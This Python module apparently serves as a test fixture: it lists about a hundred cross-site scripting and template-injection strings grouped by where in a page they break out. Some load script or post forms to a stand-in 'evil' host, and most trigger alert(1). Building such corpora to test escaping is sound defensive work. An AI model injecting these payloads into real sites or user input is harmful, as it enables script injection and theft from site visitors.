"""A hundred attempts to become markup or script, by the place of a page that each aims at."""

from __future__ import annotations

ELEMENTS = (
    *("<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<script\n>alert(1)</script\n>"),
    *("<SCRIPT>alert(1)</SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/src=data:,alert(1)>"),
    *("<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<image src=x>"),
    *("<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a href=x>"),
    *("<svg><animate onbegin=alert(1)>", "<svg><foreignObject><b>x", "<math><mi xlink:href=javascript:alert(1)>x"),
    *("<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>"),
    *("<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<base href=//evil>"),
    *("<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<style>@import'//evil'"),
    *("<meta http-equiv=refresh content=0;url=//evil>", "<form action=//evil><input name=q>", "<button formaction=x>"),
    *("<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=x>"),
    *("<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>"),
    *("<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>"),
    *("<b onclick=alert(1)>x</b>", "<div style=background:url(javascript:alert(1))>", "<table background=x>"),
    *("<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=x>'>"),
    *("<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<frameset onload=alert(1)>", "<isindex action=x>"),
    *("<custom-element onfocus=alert(1) tabindex=1>", "<dialog open>x</dialog>", "<slot onslotchange=alert(1)>"),
    *("<portal src=//evil>", "<bgsound src=x>", "<keygen autofocus>", "<mark onclick=alert(1)>x</mark>"),
)
WAYS_OUT = (
    *('"><script>alert(1)</script>', "'><script>alert(1)</script>", "</title><script>alert(1)</script>"),
    *("</mark></p></article><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>x"),
    *("]]><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>"),
    *("*/</script><script>alert(1)/*", "</bdi></a></h2><img src=x onerror=alert(1)>", "</head><body onload=x>"),
    *("</option></select><img src=x onerror=alert(1)>", "<!--<img src='--><img src=x onerror=alert(1)>'>"),
    *("<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>x</script>", "<!DOCTYPE html><b>"),
)
ATTRIBUTES = (
    *('" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', "` onclick=`alert(1)"),
    *('" style="position:fixed', '"/onload="alert(1)', '" srcdoc="<b>', '" formaction="javascript:alert(1)'),
    *("x onerror=alert(1)//", '"\nonclick\n=\n"alert(1)', '">', "'>", '"', "<", "</", "<a", "&", "&#0;"),
)
ENCODED = (
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;"),
    *("%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "+ADw-script+AD4-"),
    *("\uff1cscript\uff1ealert(1)", "\u202e<script>alert(1)</script>", "<\u200bscript>alert(1)</script>"),
    *("<scr\u00adipt>alert(1)</scr\u00adipt>", "{{ 7*7 }}", "{% raw %}<b>", "${alert(1)}", "<%= 7*7 %>", "#{7*7}"),
)
PAYLOADS = (*ELEMENTS, *WAYS_OUT, *ATTRIBUTES, *ENCODED)
